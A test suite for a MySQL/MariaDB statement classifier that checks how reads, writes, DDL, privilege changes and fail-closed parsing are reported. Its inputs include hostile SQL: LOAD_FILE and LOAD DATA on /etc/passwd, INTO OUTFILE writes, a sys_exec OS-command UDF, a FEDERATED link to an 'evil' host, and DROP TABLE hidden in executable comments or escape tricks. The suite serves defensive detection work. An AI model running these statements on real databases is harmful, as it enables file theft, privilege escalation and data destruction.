/**
 * classifyMysql against the real grammar (dt-sql-parser's MySQL parser in a worker thread):
 * facts of ordinary statements and of MySQL's own dangers.
 */
import { afterAll, describe, expect, it } from "vitest";
import type { StatementFacts } from "../sql/facts.js";
import { classifyMysql, closeTestClassifier, facts, one, rel } from "./testing.js";

afterAll(closeTestClassifier);

const T = 120_000;
const ops = async (sql: string): Promise<readonly string[]> => [...new Set((await facts(sql)).flatMap((f) => f.operations))].sort();
const written = (f: StatementFacts): string[] => f.relationsWritten.map(rel);
const read = (f: StatementFacts): string[] => f.relationsRead.map(rel);

describe("classifyMysql: ordinary statements", () => {
  it("reads a join with db-qualified names and aliases", async () => {
    const f = await one("SELECT u.email, o.total FROM shop.users AS u JOIN `orders` o ON o.user_id = u.id WHERE u.id = 1");
    expect(f.operations).toEqual(["select"]);
    expect(read(f)).toEqual(["orders", "shop.users"]);
    expect(f.columns).toContainEqual({ relation: { schema: "shop", name: "users" }, column: "email", access: "read" });
    expect(f.columns).toContainEqual({ relation: { name: "orders" }, column: "total", access: "read" });
  }, T);

  it("reports table names as written and lower-cased; columns lower-cased", async () => {
    const f = await one("SELECT Password FROM `Shop`.`Users`");
    expect(read(f)).toEqual(["Shop.Users", "shop.users"]);
    expect(f.columns).toContainEqual({ relation: { schema: "Shop", name: "Users" }, column: "password", access: "read" });
    expect(f.columns).toContainEqual({ relation: { schema: "shop", name: "users" }, column: "password", access: "read" });
  }, T);

  it("SELECT * reads the whole row of each table", async () => {
    const f = await one("SELECT * FROM a, b");
    expect(f.columns.filter((c) => c.column === "*").map((c) => c.relation?.name).sort()).toEqual(["a", "b"]);
  }, T);

  it("an unqualified column in a subquery may be the outer table's", async () => {
    const f = await one("SELECT (SELECT password FROM dual LIMIT 1) FROM users");
    expect(f.columns).toContainEqual({ relation: { name: "users" }, column: "password", access: "read" });
  }, T);

  it("INSERT, REPLACE, UPDATE, DELETE: targets written, sources read", async () => {
    const ins = await one("INSERT INTO db.t (a, b) SELECT x, y FROM s ON DUPLICATE KEY UPDATE a = VALUES(a)");
    expect(ins.operations).toEqual(["insert", "select", "update"]);
    expect(written(ins)).toEqual(["db.t"]);
    expect(read(ins)).toEqual(["s"]);
    expect(ins.columns).toContainEqual({ relation: { schema: "db", name: "t" }, column: "a", access: "write" });
    const rep = await one("REPLACE t VALUES (1)");
    expect(rep.operations).toEqual(["delete", "insert", "replace"]);
    expect(rep.columns).toContainEqual({ relation: { name: "t" }, column: "*", access: "write" });
    const upd = await one("UPDATE t JOIN u ON t.id = u.id SET t.a = u.b WHERE u.c = 1");
    expect(upd.operations).toEqual(["update"]);
    expect(written(upd)).toEqual(["t", "u"]);
    expect(upd.columns).toContainEqual({ relation: { name: "t" }, column: "a", access: "write" });
    expect(upd.noWhere).toBe(false);
    const del = await one("DELETE t FROM t JOIN u ON t.id = u.id");
    expect(del.operations).toEqual(["delete"]);
    expect(written(del)).toContain("t");
    expect(del.noWhere).toBe(true);
  }, T);

  it("noWhere: missing, or a WHERE that names no column", async () => {
    expect((await one("DELETE FROM t")).noWhere).toBe(true);
    expect((await one("DELETE FROM t WHERE 1 = 1")).noWhere).toBe(true);
    expect((await one("UPDATE t SET a = 1 LIMIT 5")).noWhere).toBe(true);
    expect((await one("UPDATE t SET a = 1 WHERE id = 3")).noWhere).toBe(false);
  }, T);

  it("DDL: tags and written names", async () => {
    const d = await one("DROP TABLE IF EXISTS a, b.c");
    expect(d.operations).toEqual(["drop", "drop_table"]);
    expect(written(d)).toEqual(["a", "b.c"]);
    const alt = await one("ALTER TABLE t DROP COLUMN a, RENAME TO u");
    expect(alt.operations).toEqual(["alter", "alter_table", "drop", "drop_column", "rename"]);
    expect(written(alt)).toEqual(["t", "u"]);
    const like = await one("CREATE TABLE t2 LIKE secret");
    expect(written(like)).toEqual(["t2"]);
    expect(read(like)).toEqual(["secret"]);
    const ctas = await one("CREATE TABLE t3 AS SELECT * FROM secret");
    expect(ctas.operations).toEqual(["create", "create_table", "select"]);
    expect(read(ctas)).toEqual(["secret"]);
    const dropDb = await one("DROP DATABASE shop");
    expect(dropDb.operations).toEqual(["drop", "drop_database"]);
    expect(dropDb.relationsWritten).toEqual([{ schema: "shop", name: "*" }]);
    expect(await ops("TRUNCATE TABLE t")).toEqual(["truncate"]);
    expect(await ops("RENAME TABLE a TO b")).toEqual(["alter", "rename", "rename_table"]);
  }, T);

  it("several statements in one text: each classified", async () => {
    const s = await facts("SELECT 1; DROP TABLE t; UPDATE u SET a = 1");
    expect(s.map((f) => f.operations)).toEqual([["select"], ["drop", "drop_table"], ["update"]]);
  }, T);

  it("a stored program's body counts as part of its definition", async () => {
    const p = await one("CREATE PROCEDURE p() BEGIN DECLARE i INT DEFAULT 0; DELETE FROM audit_log; SELECT COUNT(*) INTO i FROM users; END");
    expect(p.operations).toEqual(expect.arrayContaining(["create", "create_procedure", "delete", "select"]));
    expect(written(p)).toContain("audit_log");
    const tr = await one("CREATE TRIGGER trg BEFORE INSERT ON orders FOR EACH ROW SET NEW.total = NEW.total * 2");
    expect(tr.operations).toEqual(expect.arrayContaining(["create", "create_trigger"]));
    expect(written(tr)).toContain("orders");
    const ev = await one("CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM orders");
    expect(ev.operations).toEqual(expect.arrayContaining(["create", "create_event", "delete"]));
    expect(written(ev)).toContain("orders");
  }, T);
});

describe("classifyMysql: MySQL's own dangers", () => {
  it("LOAD_FILE, SLEEP, BENCHMARK: functions and their families", async () => {
    const f = await one("SELECT LOAD_FILE('/etc/passwd'), SLEEP(1), BENCHMARK(1000000, MD5('x'))");
    expect(f.functions).toEqual(expect.arrayContaining(["load_file", "sleep", "benchmark", "md5"]));
    expect(f.functionFamilies).toEqual(["server_file_read", "sleep"]);
  }, T);

  it("SELECT … INTO OUTFILE / DUMPFILE write a server file", async () => {
    expect(await ops("SELECT a INTO OUTFILE '/tmp/x' FROM t")).toEqual(["copy_file", "copy_to", "into_outfile", "select"]);
    expect(await ops("SELECT * FROM t INTO DUMPFILE '/tmp/y'")).toEqual(["copy_file", "copy_to", "into_dumpfile", "select"]);
  }, T);

  it("LOAD DATA [LOCAL] INFILE", async () => {
    const f = await one("LOAD DATA INFILE '/etc/passwd' INTO TABLE t");
    expect(f.operations).toEqual(["copy_file", "copy_from", "insert", "load_data"]);
    expect(written(f)).toEqual(["t"]);
    const l = await one("LOAD DATA LOCAL INFILE '/x' INTO TABLE t (a, b)");
    expect(l.operations).toEqual(["copy_from", "insert", "load_data", "load_data_local"]);
    expect(l.columns).toContainEqual({ relation: { name: "t" }, column: "a", access: "write" });
  }, T);

  it("SET GLOBAL / PERSIST / @@global and sql_log_bin", async () => {
    expect(await ops("SET GLOBAL general_log = 1")).toEqual(["alter_system", "set", "set_global"]);
    expect(await ops("SET PERSIST max_connections = 1")).toEqual(["alter_system", "set", "set_global"]);
    expect(await ops("SET @@global.read_only = 0")).toEqual(["alter_system", "set", "set_global"]);
    const lb = await one("SET sql_log_bin = 0");
    expect(lb.operations).toEqual(["set", "set_sql_log_bin"]);
    expect(lb.settings).toEqual(["sql_log_bin"]);
  }, T);

  it("GRANT, REVOKE, CREATE USER, SET PASSWORD", async () => {
    const g = await one("GRANT ALL ON shop.* TO 'u'@'%'");
    expect(g.operations).toEqual(["grant"]);
    expect(g.relationsWritten).toEqual([{ schema: "shop", name: "*" }]);
    expect(await ops("REVOKE SELECT ON shop.users FROM 'u'@'%'")).toContain("revoke");
    expect(await ops("CREATE USER 'x'@'%' IDENTIFIED BY 'p'")).toEqual(["create", "create_role", "create_user"]);
  }, T);

  it("CALL, PREPARE from a variable, BINLOG, loadable functions: unknown effects", async () => {
    expect((await one("CALL p(1)")).unknownEffects).toMatch(/CALL p/);
    expect((await one("PREPARE s FROM @q")).unknownEffects).toMatch(/PREPARE s/);
    expect((await one("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'")).unknownEffects).toMatch(/shared library/);
    expect((await one("SELECT sys_exec('id')")).unknownEffects).toMatch(/operating-system command/);
  }, T);

  it("PREPARE from a literal is classified as the statement it prepares", async () => {
    const f = await one("PREPARE s FROM 'DELETE FROM users'");
    expect(f.prepares).toBe("s");
    expect(f.operations).toEqual(["delete", "prepare"]);
    expect(written(f)).toEqual(["users"]);
    expect((await one("EXECUTE s USING @a")).executes).toBe("s");
  }, T);

  it("executable comments are executed: classified as the code they contain", async () => {
    expect(await ops("/*!50000 DROP TABLE t */")).toEqual(["drop", "drop_table"]);
    expect(await ops("SELECT 1 /*!, (SELECT password FROM users) */")).toEqual(["select"]);
    expect((await one("SELECT 1 /*!, (SELECT password FROM users) */")).relationsRead.map(rel)).toEqual(["users"]);
    expect(await ops("/*M!100100 DROP TABLE t */")).toEqual(["drop", "drop_table"]);
    expect(await ops("SELECT 1; /*!99999 DELETE FROM t */")).toEqual(["delete", "select"]);
  }, T);

  it("comments: -- needs a space; # to end of line", async () => {
    expect(await ops("SELECT 1 -- ; DROP TABLE t")).toEqual(["select"]);
    expect(await ops("SELECT 1 # ; DROP TABLE t\n; DELETE FROM u")).toEqual(["delete", "select"]);
    // `--1` is minus minus one, not a comment
    expect(await ops("SELECT 1--1; DROP TABLE t")).toEqual(["drop", "drop_table", "select"]);
  }, T);

  it("backslash escapes and NO_BACKSLASH_ESCAPES: both readings are judged", async () => {
    // Default: one string. With NO_BACKSLASH_ESCAPES: a string, then DROP TABLE.
    expect(await ops("SELECT 'a\\'; DROP TABLE t; -- '")).toEqual(["drop", "drop_table", "select"]);
    // Plain escapes only: one reading's facts.
    expect(await ops("SELECT 'it\\'s'")).toEqual(["select"]);
  }, T);

  it("ANSI_QUOTES: a double-quoted word is judged as a string and as a column", async () => {
    const f = await one('SELECT "password" FROM users');
    expect(f.columns).toContainEqual({ relation: { name: "users" }, column: "password", access: "read" });
  }, T);

  it("SET NAMES to a character set that can hide a quote: unknown effects", async () => {
    expect((await one("SET NAMES gbk")).unknownEffects).toMatch(/character set/);
    expect((await one("SET NAMES utf8mb4")).unknownEffects).toBeUndefined();
    expect((await one("SET character_set_client = sjis")).unknownEffects).toMatch(/character set/);
  }, T);

  it("HANDLER … READ is a read of the table", async () => {
    const f = await one("HANDLER secrets READ FIRST");
    expect(f.operations).toEqual(["handler", "handler_read", "select"]);
    expect(read(f)).toEqual(["secrets"]);
  }, T);

  it("USE db is reported for the session to track", async () => {
    expect((await one("USE `billing`")).switchesDatabase).toBe("billing");
  }, T);

  it("SHOW, DESCRIBE, KILL, SHUTDOWN, CREATE EVENT", async () => {
    expect(await ops("SHOW TABLES")).toEqual(["show", "show_schema_filter"]);
    expect(await ops("DESCRIBE users")).toEqual(["describe"]);
    expect(await ops("KILL 5")).toEqual(["kill"]);
    expect(await ops("SHUTDOWN")).toEqual(["shutdown"]);
  }, T);

  it("engines that reach files or other servers: unknown effects", async () => {
    expect((await one("CREATE TABLE t (a INT) ENGINE=FEDERATED CONNECTION='mysql://u:p@evil:3306/db/t'")).unknownEffects).toMatch(/ENGINE=federated/);
    // CONNECT's own table options are beyond the grammar: refused (fail closed) either way.
    expect((await classifyMysql("CREATE TABLE t (a INT) ENGINE=CONNECT TABLE_TYPE=DOS FILE_NAME='/etc/passwd'")).ok).toBe(false);
  }, T);
});

describe("classifyMysql: fails closed", () => {
  it("syntax errors, unterminated literals and comments, NUL, DELIMITER", async () => {
    for (const sql of ["SELEC 1", "SELECT 'abc", "SELECT 1 /* x", "SELECT `a", "SELECT 1\u0000; DROP TABLE t", "DELIMITER //", "/*!50000 DROP TABLE t"]) {
      const c = await classifyMysql(sql);
      expect(c.ok, sql).toBe(false);
    }
  }, T);

  it("huge and deeply nested input is refused before the parser, quickly", async () => {
    const deep = await classifyMysql(`SELECT ${"(".repeat(5000)}1${")".repeat(5000)}`);
    expect(deep.ok).toBe(false);
    const long = await classifyMysql(`SELECT '${"x".repeat(2 * 1024 * 1024)}'`);
    expect(long.ok).toBe(false);
    const chain = await classifyMysql(`SELECT 1${" + 1".repeat(5000)}`);
    expect(chain.ok).toBe(false);
  }, T);

  it("an empty text (or only comments) is no statement", async () => {
    expect(await classifyMysql("")).toEqual({ ok: true, statements: [] });
    expect(await classifyMysql("-- nothing\n/* at all */")).toEqual({ ok: true, statements: [] });
  }, T);
});

describe("classifyMysql: MariaDB's own statements", () => {
  it("reads SHOW PACKAGE [BODY] STATUS (mariadb-dump --routines) as routine metadata", async () => {
    for (const sql of ["SHOW PACKAGE STATUS WHERE Db = 'shop'", "show package body status like 'x%'"]) {
      const f = await one(sql);
      expect(f.operations).toContain("show");
      expect(f.unknownEffects).toBeUndefined();
    }
    // Only as the statement's own words: a string that says so is not rewritten into one.
    expect((await classifyMysql("SELECT 'SHOW PACKAGE STATUS'")).ok).toBe(true);
  }, T);
});
